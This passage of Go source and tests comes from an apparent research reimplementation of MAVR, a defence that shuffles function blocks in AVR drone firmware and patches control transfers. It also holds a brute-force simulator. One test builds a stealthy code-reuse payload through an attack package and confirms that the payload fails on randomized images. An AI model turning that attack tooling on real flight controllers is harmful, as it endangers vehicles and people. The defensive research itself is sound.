		s.rxNext = seq + 1
	default:
		s.stats.Reordered.Add(1)
	}
}

// sessionTable is the fleet's live-session registry.
type sessionTable struct {
	mu       sync.RWMutex
	byKey    map[string]*session
	bySysID  map[byte][]*session
	max      int // 0 = unbounded
	expired  atomic.Uint64
	rejected atomic.Uint64
}

func newSessionTable(max int) *sessionTable {
	return &sessionTable{
		byKey:   make(map[string]*session),
		bySysID: make(map[byte][]*session),
		max:     max,
	}
}

func sessionKey(addr *net.UDPAddr, sysID byte) string {
	return fmt.Sprintf("%s|%d", addr, sysID)
}

// uplinkParser runs received uplink bytes through a lenient MAVLink
// parser purely for the per-link counters; forwarding to the vehicle
// is unconditional.
type uplinkParser struct {
	p mavlink.Parser
}

func (u *uplinkParser) feed(data []byte, st *LinkStats) {
	before := u.p.Stats()
	u.p.FeedBytes(data)
	after := u.p.Stats()
	st.UplinkFrames.Add(uint64(after.Frames - before.Frames))
	st.CRCRejects.Add(uint64(after.CRCErrors - before.CRCErrors))
}

// lookup returns the session for (addr, sysID), creating it if new.
// The bool reports whether the session already existed. When the table
// is at its cap, new joins are rejected (nil, false) — session-table
// pressure from churning stations must not grow memory without bound.
func (t *sessionTable) lookup(addr *net.UDPAddr, sysID byte, now time.Time) (*session, bool) {
	key := sessionKey(addr, sysID)
	t.mu.RLock()
	s := t.byKey[key]
	t.mu.RUnlock()
	if s != nil {
		return s, true
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if s = t.byKey[key]; s != nil {
		return s, true
	}
	if t.max > 0 && len(t.byKey) >= t.max {
		t.rejected.Add(1)
		return nil, false
	}
	// Copy the address: the read loop's UDPAddr may be reused.
	a := *addr
	s = &session{key: key, addr: &a, sysID: sysID}
	s.touch(now)
	t.byKey[key] = s
	t.bySysID[sysID] = append(t.bySysID[sysID], s)
	return s, false
}

// subscribers returns the sessions watching a vehicle.
func (t *sessionTable) subscribers(sysID byte) []*session {
	t.mu.RLock()
	subs := t.bySysID[sysID]
	out := make([]*session, len(subs))
	copy(out, subs)
	t.mu.RUnlock()
	return out
}

// remove deletes a session (graceful bye).
func (t *sessionTable) remove(s *session) {
	t.mu.Lock()
	t.removeLocked(s)
	t.mu.Unlock()
}

func (t *sessionTable) removeLocked(s *session) {
	if t.byKey[s.key] != s {
		return
	}
	delete(t.byKey, s.key)
	subs := t.bySysID[s.sysID]
	for i, other := range subs {
		if other == s {
			t.bySysID[s.sysID] = append(subs[:i], subs[i+1:]...)
			break
		}
	}
}

// expire removes sessions idle longer than timeout and returns how
// many were dropped.
func (t *sessionTable) expire(now time.Time, timeout time.Duration) int {
	t.mu.Lock()
	defer t.mu.Unlock()
	var dead []*session
	for _, s := range t.allLocked() {
		if s.idleSince(now) > timeout {
			dead = append(dead, s)
		}
	}
	for _, s := range dead {
		t.removeLocked(s)
	}
	t.expired.Add(uint64(len(dead)))
	return len(dead)
}

// clear drops every session (fleet shutdown drain).
func (t *sessionTable) clear() {
	t.mu.Lock()
	t.byKey = make(map[string]*session)
	t.bySysID = make(map[byte][]*session)
	t.mu.Unlock()
}

// count returns the number of live sessions.
func (t *sessionTable) count() int {
	t.mu.RLock()
	defer t.mu.RUnlock()
	return len(t.byKey)
}

// all returns every live session in key order, so callers walking the
// table (expiry sweeps, stats dumps) behave identically run to run.
func (t *sessionTable) all() []*session {
	t.mu.RLock()
	defer t.mu.RUnlock()
	return t.allLocked()
}

func (t *sessionTable) allLocked() []*session {
	keys := make([]string, 0, len(t.byKey))
	for k := range t.byKey {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	out := make([]*session, 0, len(keys))
	for _, k := range keys {
		out = append(out, t.byKey[k])
	}
	return out
}
