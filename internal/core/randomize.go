package core

import (
	"errors"
	"fmt"
	"math/rand"
	"sort"

	"mavr/internal/avr"
	"mavr/internal/elfobj"
)

// Randomization and patching errors. A relative-range or LDI-encoding
// failure on a stock-toolchain binary is exactly why the paper requires
// --no-relax and -mno-call-prologues (§VI-B1).
var (
	ErrBadPermutation    = errors.New("core: not a permutation of the block set")
	ErrRelativeRange     = errors.New("core: relocated rjmp/rcall target out of relative range (binary built without --no-relax?)")
	ErrBranchRange       = errors.New("core: relocated conditional branch out of range")
	ErrPointerOverflow   = errors.New("core: relocated function pointer exceeds 16-bit word address")
	ErrInstrStreamDesync = errors.New("core: instruction walk desynchronized inside a function block")
)

// Permutation returns a uniformly random permutation of n block
// indices (Fisher-Yates) drawn from rng.
func Permutation(rng *rand.Rand, n int) []int {
	return rng.Perm(n)
}

// Randomized is the outcome of one randomization pass.
type Randomized struct {
	// Image is the patched, shuffled flash image (same length as the
	// original).
	Image []byte
	// Perm is the applied permutation: Perm[i] is the original block
	// index placed i-th in the new layout.
	Perm []int
	// NewStart[origIndex] is each block's new start byte address.
	NewStart []uint32
	// PatchedTransfers counts rewritten jmp/call/rjmp/rcall instructions.
	PatchedTransfers int
	// PatchedPointers counts rewritten data-section function pointers.
	PatchedPointers int
}

// Randomize produces a new flash image with the function blocks
// arranged according to perm, all encoded control transfers and
// function pointers patched (paper §V-B2/B3, §VI-B3).
func Randomize(p *Preprocessed, perm []int) (*Randomized, error) {
	n := len(p.Blocks)
	if len(perm) != n {
		return nil, ErrBadPermutation
	}
	seen := make([]bool, n)
	for _, i := range perm {
		if i < 0 || i >= n || seen[i] {
			return nil, ErrBadPermutation
		}
		seen[i] = true
	}

	r := &Randomized{
		Perm:     append([]int(nil), perm...),
		NewStart: make([]uint32, n),
	}
	cursor := p.RegionStart
	for _, orig := range perm {
		r.NewStart[orig] = cursor
		cursor += p.Blocks[orig].Size
	}
	if cursor != p.RegionEnd {
		return nil, ErrNotTiling
	}

	// Lay out the new image: fixed regions copied verbatim, blocks
	// moved to their new homes.
	img := append([]byte(nil), p.Image...)
	for orig, b := range p.Blocks {
		copy(img[r.NewStart[orig]:], p.Image[b.Start:b.End()])
	}

	remap := func(old uint32) uint32 {
		i := p.BlockIndex(old)
		if i < 0 {
			return old // fixed region: vectors, stubs, data, constants
		}
		return r.NewStart[i] + (old - p.Blocks[i].Start)
	}

	// Patch the fixed low-flash code (interrupt vectors and dispatch
	// stubs), then every relocated block.
	if err := patchCode(img[:p.RegionStart], 0, 0, p.RegionStart, remap, r); err != nil {
		return nil, err
	}
	for orig, b := range p.Blocks {
		buf := img[r.NewStart[orig] : r.NewStart[orig]+b.Size]
		if err := patchCode(buf, r.NewStart[orig], b.Start, b.End(), remap, r); err != nil {
			return nil, fmt.Errorf("block %q: %w", b.Name, err)
		}
	}

	// Patch data-section function pointers (16-bit word addresses).
	for _, off := range p.PtrOffsets {
		w := uint32(img[off]) | uint32(img[off+1])<<8
		nw := remap(w*2) / 2
		if nw > 0xFFFF {
			return nil, fmt.Errorf("%w: 0x%X", ErrPointerOverflow, nw*2)
		}
		if nw != w {
			img[off] = byte(nw)
			img[off+1] = byte(nw >> 8)
			r.PatchedPointers++
		}
	}

	r.Image = img
	return r, nil
}

// Moves reports each block's relocation as "name: old -> new" lines,
// ordered by original address — the layout diff a defender inspects
// (and an attacker never sees, thanks to the readout fuse).
func (r *Randomized) Moves(p *Preprocessed) []string {
	out := make([]string, 0, len(p.Blocks))
	for i, b := range p.Blocks {
		out = append(out, fmt.Sprintf("%-40s 0x%06X -> 0x%06X (%d bytes)",
			b.Name, b.Start, r.NewStart[i], b.Size))
	}
	return out
}

// Symbols returns the function symbol table of the randomized image:
// the original blocks at their new starts, sorted by address, ready to
// embed in an output ELF.
func (r *Randomized) Symbols(p *Preprocessed) []elfobj.Symbol {
	out := make([]elfobj.Symbol, 0, len(p.Blocks))
	for i, b := range p.Blocks {
		out = append(out, elfobj.Symbol{
			Name:  b.Name,
			Value: r.NewStart[i],
			Size:  b.Size,
			Kind:  elfobj.SymFunc,
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Value < out[j].Value })
	return out
}

// patchCode walks the instruction stream of one relocated (or fixed)
// code buffer, rewriting the flash targets of jmp/call and re-encoding
// rjmp/rcall and conditional branches whose absolute targets moved
// relative to the instruction. Intra-buffer relative transfers move
// with the block and need no change.
//
// buf holds the code that will live at byte address newBase in the
// output image and lived at [oldStart, oldEnd) in the original. The
// buffer-local formulation is what lets the master processor patch one
// block at a time while streaming (§VI-B3).
func patchCode(buf []byte, newBase, oldStart, oldEnd uint32, remap func(uint32) uint32, r *Randomized) error {
	endW := uint32(len(buf) / 2)
	baseW := newBase / 2
	oldBaseW := oldStart / 2
	for pc := uint32(0); pc < endW; {
		in := avr.DecodeAt(buf, pc)
		if in.Op == avr.OpInvalid {
			return fmt.Errorf("%w: invalid opcode at byte 0x%X", ErrInstrStreamDesync, (baseW+pc)*2)
		}
		oldPC := oldBaseW + pc
		switch in.Op {
		case avr.OpJMP, avr.OpCALL:
			oldT := in.Target * 2
			newT := remap(oldT)
			if newT != oldT {
				encodeLong(buf, pc, in.Op, newT/2)
				r.PatchedTransfers++
			}
		case avr.OpRJMP, avr.OpRCALL:
			oldT := uint32(int64(oldPC)+1+int64(in.K)) * 2
			if oldT < oldStart || oldT >= oldEnd {
				newT := remap(oldT)
				k := int64(newT/2) - int64(baseW+pc) - 1
				if k < -2048 || k > 2047 {
					return fmt.Errorf("%w: at byte 0x%X", ErrRelativeRange, (baseW+pc)*2)
				}
				base := uint16(0xC000)
				if in.Op == avr.OpRCALL {
					base = 0xD000
				}
				putWord(buf, pc, base|uint16(k)&0x0FFF)
				if k != int64(in.K) {
					r.PatchedTransfers++
				}
			}
		case avr.OpBRBS, avr.OpBRBC:
			oldT := uint32(int64(oldPC)+1+int64(in.K)) * 2
			if oldT < oldStart || oldT >= oldEnd {
				newT := remap(oldT)
				k := int64(newT/2) - int64(baseW+pc) - 1
				if k < -64 || k > 63 {
					return fmt.Errorf("%w: at byte 0x%X", ErrBranchRange, (baseW+pc)*2)
				}
				w := wordOf(buf, pc)
				w = w&^uint16(0x7F<<3) | (uint16(k)&0x7F)<<3
				putWord(buf, pc, w)
				if k != int64(in.K) {
					r.PatchedTransfers++
				}
			}
		}
		pc += uint32(in.Words)
	}
	return nil
}

func encodeLong(img []byte, pc uint32, op avr.Op, target uint32) {
	base := uint16(0x940C)
	if op == avr.OpCALL {
		base = 0x940E
	}
	hi := uint16(target >> 16)
	putWord(img, pc, base|(hi&0x3E)<<3|hi&1)
	putWord(img, pc+1, uint16(target))
}

func wordOf(img []byte, pc uint32) uint16 {
	return uint16(img[pc*2]) | uint16(img[pc*2+1])<<8
}

func putWord(img []byte, pc uint32, w uint16) {
	img[pc*2] = byte(w)
	img[pc*2+1] = byte(w >> 8)
}
