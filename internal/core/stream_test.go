package core_test

import (
	"bytes"
	"math/rand"
	"testing"

	"mavr/internal/core"
	"mavr/internal/firmware"
)

// StreamRandomize must produce byte-identical output to Randomize for
// any permutation — the streaming master and the host-side reference
// implement the same transformation.
func TestStreamRandomizeMatchesRandomize(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(5))
	for trial := 0; trial < 5; trial++ {
		perm := core.Permutation(rng, len(p.Blocks))
		want, err := core.Randomize(p, perm)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		got, err := core.StreamRandomize(p, perm, &buf)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(buf.Bytes(), want.Image) {
			for i := range want.Image {
				if buf.Bytes()[i] != want.Image[i] {
					t.Fatalf("trial %d: first divergence at byte 0x%X: 0x%02X vs 0x%02X",
						trial, i, buf.Bytes()[i], want.Image[i])
				}
			}
			t.Fatalf("trial %d: length mismatch %d vs %d", trial, buf.Len(), len(want.Image))
		}
		if got.PatchedTransfers != want.PatchedTransfers || got.PatchedPointers != want.PatchedPointers {
			t.Errorf("trial %d: patch counts differ: %d/%d vs %d/%d", trial,
				got.PatchedTransfers, got.PatchedPointers,
				want.PatchedTransfers, want.PatchedPointers)
		}
	}
}

func TestStreamRandomizeRejectsBadPermutation(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	var buf bytes.Buffer
	if _, err := core.StreamRandomize(p, make([]int, 3), &buf); err == nil {
		t.Error("bad permutation accepted")
	}
}

// failWriter fails after n bytes, exercising the error paths.
type failWriter struct{ n int }

func (f *failWriter) Write(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, bytes.ErrTooLarge
	}
	f.n -= len(p)
	return len(p), nil
}

func TestStreamRandomizePropagatesWriteErrors(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	perm := identity(len(p.Blocks))
	for _, limit := range []int{0, 100, 2000} {
		if _, err := core.StreamRandomize(p, perm, &failWriter{n: limit}); err == nil {
			t.Errorf("write failure at %d bytes not propagated", limit)
		}
	}
}
