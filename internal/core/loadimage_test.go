package core_test

import (
	"bytes"
	"errors"
	"testing"

	"mavr/internal/core"
	"mavr/internal/firmware"
)

// TestLoadImageELF proves the container sniffing: marshaled ELF bytes
// load to the same handle Preprocess produces from the parsed file.
func TestLoadImageELF(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	want := preprocess(t, img)
	raw, err := img.ELF.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	got, err := core.LoadImage(raw)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Image, want.Image) {
		t.Error("image differs from direct Preprocess")
	}
	if len(got.Blocks) != len(want.Blocks) || got.RegionStart != want.RegionStart || got.RegionEnd != want.RegionEnd {
		t.Error("block metadata differs from direct Preprocess")
	}
}

// TestLoadImagePrepended proves the second container: the prepended-HEX
// external-flash format a previous Preprocess emitted.
func TestLoadImagePrepended(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	want := preprocess(t, img)
	var buf bytes.Buffer
	if _, err := want.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := core.LoadImage(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Image, want.Image) {
		t.Error("image corrupted through the prepended container")
	}
	if len(got.PtrOffsets) != len(want.PtrOffsets) {
		t.Error("pointer offsets lost")
	}
}

// TestLoadImageRejectsGarbage: neither magic → ErrBadPrepended.
func TestLoadImageRejectsGarbage(t *testing.T) {
	for _, b := range [][]byte{nil, {}, []byte("x"), []byte("garbage that is neither container")} {
		if _, err := core.LoadImage(b); !errors.Is(err, core.ErrBadPrepended) {
			t.Errorf("LoadImage(%q) = %v, want ErrBadPrepended", b, err)
		}
	}
	// An ELF magic with a truncated body must error, not panic.
	if _, err := core.LoadImage([]byte{0x7F, 'E', 'L', 'F'}); err == nil {
		t.Error("truncated ELF loaded without error")
	}
}
