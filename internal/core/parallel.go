package core

import (
	"math/bits"
	"runtime"
	"sync"
)

// Parallel Monte-Carlo brute-force sweeps. The §V-D experiments are
// embarrassingly parallel: every trial is independent, so the pool
// shards trials into fixed-size chunks and runs chunks on a worker
// pool. Determinism guarantee: chunk i always draws from its own RNG
// seeded as a pure function of (seed, i), the chunk layout depends
// only on the trial count, and per-chunk attempt totals are reduced in
// chunk order after all workers finish — so for a fixed seed the
// result is bit-identical regardless of worker count or goroutine
// scheduling.

// bruteChunkTrials is the number of trials in one work unit. Small
// enough to load-balance the geometric-tailed re-randomized trials,
// large enough to amortize dispatch. Fixed (never derived from the
// worker count) so the chunk layout, and with it the result, is the
// same on every machine.
const bruteChunkTrials = 64

// bruteRNG is a SplitMix64 generator: a single multiply-xor-shift per
// draw and O(1) seeding, unlike math/rand's lagged-Fibonacci source
// whose 607-word seed walk would dominate short per-chunk streams.
type bruteRNG struct{ state uint64 }

// chunkRNG derives the generator for chunk i of an experiment. The
// index is passed through the full mixing function before it becomes
// the stream state: every SplitMix64 stream walks the same additive
// orbit, so a linear seed schedule (seed + i*gamma) would start chunk
// i+1 exactly one draw ahead of chunk i and all chunks would replay
// one shifted stream. Hashing scatters the starting points across the
// 2^64-step orbit, making overlap vanishingly unlikely.
func chunkRNG(seed int64, i int) bruteRNG {
	z := uint64(seed) + (uint64(i)+1)*0x9E3779B97F4A7C15
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return bruteRNG{state: z ^ (z >> 31)}
}

func (r *bruteRNG) next() uint64 {
	r.state += 0x9E3779B97F4A7C15
	z := r.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// Intn returns a uniform int in [0, n) via Lemire's multiply-shift
// (bias below 2^-32 for the n! ranges used here).
func (r *bruteRNG) Intn(n int) int {
	hi, _ := bits.Mul64(r.next(), uint64(n))
	return int(hi)
}

// permInto writes a uniform random permutation of [0, n) into p
// (Fisher-Yates), avoiding math/rand.Perm's per-call allocation.
func (r *bruteRNG) permInto(p []int) {
	for i := range p {
		j := r.Intn(i + 1)
		p[i] = p[j]
		p[j] = i
	}
}

// runChunked executes trials of sim on a worker pool and returns the
// mean attempts per trial. sim must return the summed attempts of the
// count trials it runs with the chunk RNG it is given.
func runChunked(seed int64, trials, workers int, sim func(rng *bruteRNG, count int) float64) float64 {
	if trials <= 0 {
		return 0
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	chunks := (trials + bruteChunkTrials - 1) / bruteChunkTrials
	if workers > chunks {
		workers = chunks
	}
	chunkTotal := func(ci int) float64 {
		count := bruteChunkTrials
		if rem := trials - ci*bruteChunkTrials; rem < count {
			count = rem
		}
		rng := chunkRNG(seed, ci)
		return sim(&rng, count)
	}
	totals := make([]float64, chunks)
	if workers == 1 {
		for ci := 0; ci < chunks; ci++ {
			totals[ci] = chunkTotal(ci)
		}
	} else {
		var next int64
		var mu sync.Mutex
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for {
					mu.Lock()
					ci := int(next)
					next++
					mu.Unlock()
					if ci >= chunks {
						return
					}
					totals[ci] = chunkTotal(ci)
				}
			}()
		}
		wg.Wait()
	}
	var sum float64
	for _, t := range totals { // fixed order: float addition is deterministic
		sum += t
	}
	return sum / float64(trials)
}

// SimulateBruteForceFixedParallel is SimulateBruteForceFixed run on a
// worker pool (workers <= 0 selects GOMAXPROCS). Results are
// deterministic for a fixed seed, independent of worker count.
func SimulateBruteForceFixedParallel(seed int64, n, trials, workers int) BruteForceResult {
	nPerm := factInt(n)
	mean := runChunked(seed, trials, workers, func(rng *bruteRNG, count int) float64 {
		order := make([]int, nPerm)
		var total float64
		for t := 0; t < count; t++ {
			secret := rng.Intn(int(nPerm))
			// Attacker enumerates candidate permutations in random order
			// without repetition.
			rng.permInto(order)
			for i, guess := range order {
				if guess == secret {
					total += float64(i + 1)
					break
				}
			}
		}
		return total
	})
	model, _ := ExpectedAttemptsFixed(n).Float64()
	return BruteForceResult{
		N: n, Permutations: nPerm, Trials: trials,
		MeanAttempts: mean, ModelAttempts: model,
	}
}

// SimulateBruteForceRerandomizedParallel is the worker-pool variant of
// SimulateBruteForceRerandomized, with the same determinism guarantee
// as SimulateBruteForceFixedParallel.
func SimulateBruteForceRerandomizedParallel(seed int64, n, trials, workers int) BruteForceResult {
	nPerm := factInt(n)
	mean := runChunked(seed, trials, workers, func(rng *bruteRNG, count int) float64 {
		var total float64
		for t := 0; t < count; t++ {
			attempts := 0
			for {
				attempts++
				secret := rng.Intn(int(nPerm)) // fresh permutation each attempt
				guess := rng.Intn(int(nPerm))
				if guess == secret {
					break
				}
			}
			total += float64(attempts)
		}
		return total
	})
	model, _ := ExpectedAttemptsRerandomized(n).Float64()
	return BruteForceResult{
		N: n, Permutations: nPerm, Trials: trials,
		MeanAttempts: mean, ModelAttempts: model,
	}
}
