package core_test

import (
	"bytes"
	"errors"
	"math"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"

	"mavr/internal/attack"
	"mavr/internal/core"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

func genImage(t *testing.T, mode firmware.ToolchainMode) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), mode)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func preprocess(t *testing.T, img *firmware.Image) *core.Preprocessed {
	t.Helper()
	p, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestPreprocessBlocksTileRegion(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	if len(p.Blocks) != img.Spec.Functions {
		t.Errorf("blocks = %d, want %d", len(p.Blocks), img.Spec.Functions)
	}
	if p.RegionStart != img.Layout.FuncRegionStart || p.RegionEnd != img.Layout.FuncRegionEnd {
		t.Errorf("region [0x%X,0x%X), want [0x%X,0x%X)",
			p.RegionStart, p.RegionEnd, img.Layout.FuncRegionStart, img.Layout.FuncRegionEnd)
	}
}

func TestPreprocessFindsDirectFunctionPointers(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	// The scan must find every direct-table pointer (ground truth from
	// the generator); stub-table pointers target fixed flash and are
	// intentionally not flagged.
	found := make(map[uint32]bool)
	for _, off := range p.PtrOffsets {
		found[off] = true
	}
	for i, off := range img.PtrFlashOffsets {
		if i >= img.Layout.SchedTableLen && !found[off] { // direct-table entries
			t.Errorf("scan missed direct pointer at flash offset 0x%X", off)
		}
	}
}

func TestPrependedHexRoundTrip(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	var buf bytes.Buffer
	if _, err := p.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := core.ReadPreprocessed(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Image, p.Image) {
		t.Error("image corrupted through prepend format")
	}
	if len(got.Blocks) != len(p.Blocks) || got.RegionStart != p.RegionStart || got.RegionEnd != p.RegionEnd {
		t.Error("block metadata corrupted")
	}
	for i := range p.Blocks {
		if got.Blocks[i] != p.Blocks[i] {
			t.Fatalf("block %d mismatch: %+v vs %+v", i, got.Blocks[i], p.Blocks[i])
		}
	}
	if len(got.PtrOffsets) != len(p.PtrOffsets) {
		t.Error("pointer offsets lost")
	}
}

func TestReadPreprocessedRejectsGarbage(t *testing.T) {
	for _, s := range []string{
		"",
		"BOGUS 1 2 3 4\n",
		"MAVR1 x 0 0 0\n",
		"MAVR1 1 0 0x0 0x10\nX foo 0 2\n",
		"MAVR1 1 0 0x0 0x10\nS foo 0 2\nnothex\n",
	} {
		if _, err := core.ReadPreprocessed(bytes.NewBufferString(s)); err == nil {
			t.Errorf("no error for %q", s)
		}
	}
}

func TestRandomizeRejectsBadPermutations(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	n := len(p.Blocks)
	bad := [][]int{
		nil,
		make([]int, n-1),
		func() []int { v := identity(n); v[0] = v[1]; return v }(),
		func() []int { v := identity(n); v[0] = -1; return v }(),
	}
	for i, perm := range bad {
		if _, err := core.Randomize(p, perm); !errors.Is(err, core.ErrBadPermutation) {
			t.Errorf("case %d: want ErrBadPermutation, got %v", i, err)
		}
	}
}

func TestIdentityPermutationIsNoOp(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	r, err := core.Randomize(p, identity(len(p.Blocks)))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(r.Image, p.Image) {
		t.Error("identity permutation changed the image")
	}
	if r.PatchedTransfers != 0 || r.PatchedPointers != 0 {
		t.Errorf("identity patched %d transfers, %d pointers", r.PatchedTransfers, r.PatchedPointers)
	}
}

// The central functional property: a randomized image still boots,
// flies, emits telemetry and processes MAVLink parameters.
func TestRandomizedImageStillWorks(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 3; trial++ {
		r, err := core.Randomize(p, core.Permutation(rng, len(p.Blocks)))
		if err != nil {
			t.Fatal(err)
		}
		if r.PatchedTransfers == 0 {
			t.Error("randomization patched nothing")
		}
		sim, err := attack.NewSim(r.Image)
		if err != nil {
			t.Fatal(err)
		}
		ps := &mavlink.ParamSet{ParamID: "RATE"}
		payload := ps.Marshal()
		payload[0] = 0xAB
		fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
		if f := sim.Deliver(fr, 300_000); f != nil {
			t.Fatalf("trial %d: randomized firmware faulted: %v", trial, f)
		}
		if got := sim.CPU.Data[firmware.AddrParamVal]; got != 0xAB {
			t.Errorf("trial %d: param value 0x%02X, want 0xAB", trial, got)
		}
		if len(sim.TX()) < firmware.PulseSize {
			t.Errorf("trial %d: no telemetry from randomized firmware", trial)
		}
	}
}

// §VII-A effectiveness: the stealthy attack built against the
// unprotected binary fails on the randomized one.
func TestStaleAttackFailsOnRandomizedImage(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(7))
	succeeded := 0
	for trial := 0; trial < 5; trial++ {
		r, err := core.Randomize(p, core.Permutation(rng, len(p.Blocks)))
		if err != nil {
			t.Fatal(err)
		}
		sim, err := attack.NewSim(r.Image)
		if err != nil {
			t.Fatal(err)
		}
		fault := sim.Deliver(attack.Frame(payload), 300_000)
		if fault == nil && sim.CPU.Data[firmware.AddrGyroCfg] == 0x55 {
			succeeded++
		}
	}
	if succeeded > 0 {
		t.Errorf("stale stealthy attack succeeded on %d/5 randomized layouts", succeeded)
	}
}

// §VI-B1: the stock-toolchain binary (call prologues + relaxation) is
// not safely randomizable: either patching fails (relaxed rcall out of
// range) or the shuffled binary misbehaves at runtime because of the
// LDI-encoded return points the patcher cannot see.
func TestStockModeNotSafelyRandomizable(t *testing.T) {
	img := genImage(t, firmware.ModeStock)
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(3))
	brokeSomehow := false
	for trial := 0; trial < 3 && !brokeSomehow; trial++ {
		r, err := core.Randomize(p, core.Permutation(rng, len(p.Blocks)))
		if err != nil {
			brokeSomehow = true // patch-time failure
			break
		}
		sim, err := attack.NewSim(r.Image)
		if err != nil {
			t.Fatal(err)
		}
		if f := sim.Run(3_000_000); f != nil {
			brokeSomehow = true // runtime failure
		}
	}
	if !brokeSomehow {
		t.Error("stock-toolchain image survived randomization — the paper's toolchain constraints would be unnecessary")
	}
}

func TestEntropyBitsMatchesPaper(t *testing.T) {
	// §VIII-B: 800 symbols -> 6567 bits of entropy.
	got := core.EntropyBits(800)
	if math.Abs(got-6567) > 1.5 {
		t.Errorf("EntropyBits(800) = %.1f, want ~6567", got)
	}
	// Sanity: log2(3!) ~ 2.585.
	if math.Abs(core.EntropyBits(3)-math.Log2(6)) > 1e-9 {
		t.Error("EntropyBits(3) wrong")
	}
}

func TestExpectedAttemptsModels(t *testing.T) {
	// n=3: N=6, fixed -> 3.5, re-randomized -> 6.
	fixed, _ := core.ExpectedAttemptsFixed(3).Float64()
	if fixed != 3.5 {
		t.Errorf("fixed model = %v, want 3.5", fixed)
	}
	rer, _ := core.ExpectedAttemptsRerandomized(3).Float64()
	if rer != 6 {
		t.Errorf("re-randomized model = %v, want 6", rer)
	}
}

func TestBruteForceSimulationMatchesModels(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	fixed := core.SimulateBruteForceFixed(rng, 4, 4000)
	if rel := math.Abs(fixed.MeanAttempts-fixed.ModelAttempts) / fixed.ModelAttempts; rel > 0.06 {
		t.Errorf("fixed brute force mean %.2f vs model %.2f (rel err %.3f)",
			fixed.MeanAttempts, fixed.ModelAttempts, rel)
	}
	rer := core.SimulateBruteForceRerandomized(rng, 4, 4000)
	if rel := math.Abs(rer.MeanAttempts-rer.ModelAttempts) / rer.ModelAttempts; rel > 0.08 {
		t.Errorf("re-randomized brute force mean %.2f vs model %.2f (rel err %.3f)",
			rer.MeanAttempts, rer.ModelAttempts, rel)
	}
	// MAVR's re-randomization must roughly double the attacker's work.
	if rer.MeanAttempts < fixed.MeanAttempts*1.5 {
		t.Errorf("re-randomization did not increase attacker effort: %.2f vs %.2f",
			rer.MeanAttempts, fixed.MeanAttempts)
	}
}

// Property: for random permutations, every block's bytes are found
// verbatim at its recorded new location.
func TestBlocksMoveIntact(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	rng := rand.New(rand.NewSource(21))
	f := func(seed int64) bool {
		r, err := core.Randomize(p, core.Permutation(rand.New(rand.NewSource(seed)), len(p.Blocks)))
		if err != nil {
			return false
		}
		// Pick a few blocks and compare contents modulo patched words.
		for trial := 0; trial < 10; trial++ {
			i := rng.Intn(len(p.Blocks))
			b := p.Blocks[i]
			oldBytes := p.Image[b.Start:b.End()]
			newBytes := r.Image[r.NewStart[i] : r.NewStart[i]+b.Size]
			if len(oldBytes) != len(newBytes) {
				return false
			}
			// Sizes match and at least half the bytes should be
			// identical (patches only touch transfer instructions).
			same := 0
			for j := range oldBytes {
				if oldBytes[j] == newBytes[j] {
					same++
				}
			}
			if same*2 < len(oldBytes) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5}); err != nil {
		t.Error(err)
	}
}

func TestBlockIndexBinarySearch(t *testing.T) {
	img := genImage(t, firmware.ModeMAVR)
	p := preprocess(t, img)
	if got := p.BlockIndex(p.RegionStart - 2); got != -1 {
		t.Errorf("address below region mapped to block %d", got)
	}
	if got := p.BlockIndex(p.RegionEnd); got != -1 {
		t.Errorf("address at region end mapped to block %d", got)
	}
	for i, b := range p.Blocks {
